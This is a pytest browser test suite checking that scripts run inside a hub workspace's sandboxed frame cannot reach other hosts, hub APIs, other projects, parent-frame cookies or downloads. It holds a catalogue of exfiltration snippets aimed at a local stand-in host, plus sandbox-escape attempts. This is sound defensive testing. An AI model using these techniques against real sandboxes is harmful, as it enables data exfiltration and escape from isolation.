"""Scripts in a page of a workspace are user code: what they try, in a real browser."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.builders.hub import OTHER, PROJECT, open_lab, sign_in


pytestmark = [pytest.mark.hub, pytest.mark.browser, pytest.mark.sandbox]


@pytest.fixture(scope="module")
def elsewhere():
    """Another host, as far as the browser is concerned; it notes who comes."""
    visits = []

    class Note(BaseHTTPRequestHandler):
        def do_GET(self):
            visits.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815 - http.server's name

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Note)
    server.visits = visits
    server.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def context(browser):
    context = browser.new_context(accept_downloads=True)
    context.set_default_timeout(240_000)
    yield context
    context.close()


@pytest.fixture(scope="module")
def shell(context, enclave):
    """The shell of a workspace, with nothing stopped on its way but by the enclave."""
    page = context.new_page()
    page.answered, page.downloads = [], []
    context.on("response", lambda answer: page.answered.append(answer.url))
    page.on("download", lambda file: page.downloads.append(file.url))
    sign_in(page, enclave, "rikke")
    page.goto(f"{enclave.url}/services/portal/")
    open_lab(page, enclave, "rikke")
    return page


@pytest.fixture
def lab(shell, enclave):
    """The page of the workspace in its frame: what runs there is user code."""
    below = f"{enclave.workspaces_url}/user/rikke/{PROJECT}/lab"
    # Where a navigation was refused, the frame shows an error page of the browser.
    if not shell.frames[1].url.startswith(below):
        shell.reload()
        shell.frame_locator("#workspace").locator(".jp-LabShell").wait_for()
    yield shell.frames[1]
    # What a test put into the page goes with the test; a navigation has to begin first.
    shell.wait_for_timeout(500)
    shell.frames[1].evaluate(
        "document.querySelectorAll('iframe').forEach(f => f.remove())"
    )


def _asked_plainly(page, script):
    return page.evaluate(
        f"async () => {{ try {{ {script} }} catch (e) {{ return String(e) }} }}"
    )


def _asked(frame, script, part=""):
    """Run a script; return what it said, and which such addresses answered."""
    frame.page.answered.clear()
    said = _asked_plainly(frame, script)
    frame.page.wait_for_timeout(500)
    return said, [url for url in frame.page.answered if part in url]


ATTEMPTS = {
    "fetch": "return await fetch('HOST/x', {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon('HOST/x', 'data')",
    "image": "new Image().src = 'HOST/x'",
    "form": (
        "const f = document.createElement('form'); f.method = 'POST';"
        " f.action = 'HOST/x'; document.body.append(f); f.submit()"
    ),
    "websocket": "new WebSocket('HOST/x'.replace('http', 'ws'))",
    "style": (
        "const l = document.createElement('link'); l.rel = 'stylesheet';"
        " l.href = 'HOST/x'; document.head.append(l)"
    ),
    "script": (
        "const s = document.createElement('script'); s.src = 'HOST/x';"
        " document.head.append(s)"
    ),
    "frame": (
        "const f = document.createElement('iframe'); f.src = 'HOST/x';"
        " document.body.append(f)"
    ),
    "font": ("await new FontFace('x', 'url(HOST/x)').load()"),
    "worker": "new Worker('HOST/x')",
    "window": "window.open('HOST/x')",
    "window of its own": "window.open('HOST/x', '_blank', 'noopener')",
    "location": "location.href = 'HOST/x'",
    "replaced location": "location.replace('HOST/x')",
    "location of the shell": "top.location.href = 'HOST/x'",
    "link": (
        "const a = document.createElement('a'); a.href = 'HOST/x';"
        " document.body.append(a); a.click()"
    ),
    "link to the shell": (
        "const a = document.createElement('a'); a.href = 'HOST/x'; a.target = '_top';"
        " document.body.append(a); a.click()"
    ),
    "link with a ping": (
        "const a = document.createElement('a'); a.href = '#here'; a.ping = 'HOST/x';"
        " document.body.append(a); a.click()"
    ),
    "refresh": (
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        " m.content = '0;url=HOST/x'; document.head.append(m)"
    ),
    "prefetch": (
        "const l = document.createElement('link'); l.rel = 'prefetch';"
        " l.href = 'HOST/x'; document.head.append(l)"
    ),
    "stream of events": "new EventSource('HOST/x')",
    "frame of a document": (
        "const f = document.createElement('iframe');"
        " f.srcdoc = '<script>location=`HOST/x`<' + '/script>';"
        " document.body.append(f)"
    ),
    "frame of data": (
        "const f = document.createElement('iframe');"
        " f.src = 'data:text/html,<img src=HOST/x>'; document.body.append(f)"
    ),
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_reaches_another_host(lab, elsewhere, attempt):
    said, _ = _asked(lab, ATTEMPTS[attempt].replace("HOST", elsewhere.url))
    lab.page.wait_for_timeout(500)
    assert elsewhere.visits == [], said


def test_the_other_host_would_have_noticed(browser, elsewhere):
    """Without the policy of a workspace each of them arrives."""
    page = browser.new_page()
    page.goto(f"{elsewhere.url}/page")
    elsewhere.visits.clear()
    attempts = ("beacon", "image", "style", "script", "frame", "window", "location")
    for attempt in attempts:
        _asked_plainly(page, ATTEMPTS[attempt].replace("HOST", elsewhere.url))
    page.wait_for_timeout(2000)
    page.close()
    assert elsewhere.visits.count("/x") == len(attempts)
    elsewhere.visits.clear()


# On the origin of workspaces, and on that of the hub.
HERE = {
    "own files": "return (await fetch('files/work/x')).status",
    "hub": "return (await fetch('HUB/hub/api/user')).status",
    "portal": "return (await fetch('HUB/services/portal/api/projects')).status",
    "shell": "return (await fetch('HUB/user/rikke/PROJECT/shell/state')).status",
    "another project": "return (await fetch('/user/rikke/OTHER/api/contents')).status",
    "image of another project": (
        "const i = new Image(); i.src = '/user/rikke/OTHER/static/x.png';"
        " return await new Promise(r => { i.onerror = () => r('TypeError');"
        " i.onload = () => r('loaded') })"
    ),
    "form": (
        "const f = document.createElement('form'); f.method = 'POST';"
        " f.action = 'HUB/services/portal/api/applications'; document.body.append(f);"
        " f.submit()"
    ),
    "socket": (
        "return await new Promise(r => {"
        " const s = new WebSocket('ws://' + location.host +"
        " '/user/rikke/OTHER/api/events/subscribe');"
        " s.onopen = () => r('opened'); s.onerror = () => r('TypeError') })"
    ),
}


@pytest.mark.parametrize("name", HERE)
def test_hub_portal_and_other_projects_are_not_reached(lab, enclave, name):
    script = HERE[name].replace("HUB", enclave.url)
    script = script.replace("PROJECT", PROJECT).replace("OTHER", OTHER)
    said, sent = _asked(lab, script)
    assert said is None or said == 403 or "TypeError" in str(said)
    below = f"{enclave.workspaces_url}/user/rikke/{PROJECT}/"
    assert not [url for url in sent if not url.startswith(below)]


FRAMES = {
    "the portal": "HUB/services/portal/",
    "the shell": "HUB/user/rikke/PROJECT/lab",
    "another project": "/user/rikke/OTHER/lab",
    "itself": "/user/rikke/PROJECT/lab",
}


@pytest.mark.parametrize("name", FRAMES)
def test_no_page_can_be_framed_in_a_workspace(lab, enclave, name):
    address = FRAMES[name].replace("HUB", enclave.url)
    address = address.replace("PROJECT", PROJECT).replace("OTHER", OTHER)
    said, _ = _asked(
        lab,
        f"const f = document.createElement('iframe'); f.src = '{address}';"
        " document.body.append(f); await new Promise(r => setTimeout(r, 1500));"
        " try { return f.contentDocument.body.innerText } catch { return 'closed' }",
    )
    assert not said or said == "closed"


def test_the_shell_is_out_of_reach(lab):
    for script in (
        "return parent.document.title",
        "return top.document.cookie",
        "parent.document.querySelector('iframe').removeAttribute('sandbox')",
        "return frameElement.outerHTML",
        "return parent.localStorage.length",
    ):
        said, _ = _asked(lab, script)
        assert said is None or "SecurityError" in said or "TypeError" in said, script


def test_the_frame_cannot_go_to_another_project(lab):
    _asked(lab, f"location.href = '/user/rikke/{OTHER}/lab'")
    sent = [url for url in lab.page.answered if f"/{OTHER}/" in url]
    assert sent == []


def test_no_service_worker_stays_behind(lab):
    said, _ = _asked(
        lab,
        "const r = await navigator.serviceWorker.register('lab/tree/work/x.js');"
        " return r.scope",
    )
    assert "Error" in said


@pytest.mark.parametrize("kind", ["blob", "data", "file"])
def test_nothing_is_downloaded(context, shell, lab, kind):
    address = {
        "blob": "URL.createObjectURL(new Blob(['x,y']))",
        "data": "'data:text/csv,x,y'",
        "file": "'api/contents/work'",
    }[kind]
    _asked(
        lab,
        "const a = document.createElement('a'); a.download = 'leak.csv';"
        f" a.href = {address}; document.body.append(a);"
        " a.click(); await new Promise(r => setTimeout(r, 1000))",
    )
    assert context.pages == [shell]
    assert shell.downloads == []


def test_the_menus_offer_no_way_out_either(context, shell):
    page = context.new_page()
    page.goto(shell.url)
    inside = page.frame_locator("#workspace")
    inside.locator(".lm-MenuBar-itemLabel").get_by_text("File", exact=True).click()
    menu = inside.locator(".lm-Menu")
    menu.get_by_text("New Launcher").wait_for()
    labels = menu.locator(".lm-Menu-itemLabel").all_inner_texts()
    page.keyboard.press("Escape")
    launcher = inside.locator(".jp-Launcher").inner_text()
    page.close()
    assert [label for label in labels if "New" in label]
    for word in ("Download", "Export", "Print", "Hub Control Panel", "Terminal"):
        assert not [label for label in labels if word in label]
    assert "Terminal" not in launcher


@pytest.mark.usefixtures("shell")
def test_a_page_opened_by_itself_is_put_into_its_shell(context, enclave):
    page = context.new_page()
    page.goto(f"{enclave.workspaces_url}/user/rikke/{PROJECT}/lab/tree/work")
    page.frame_locator("#workspace").locator(".jp-LabShell").wait_for()
    assert page.url == f"{enclave.url}/user/rikke/{PROJECT}/lab/tree/work"
    page.close()
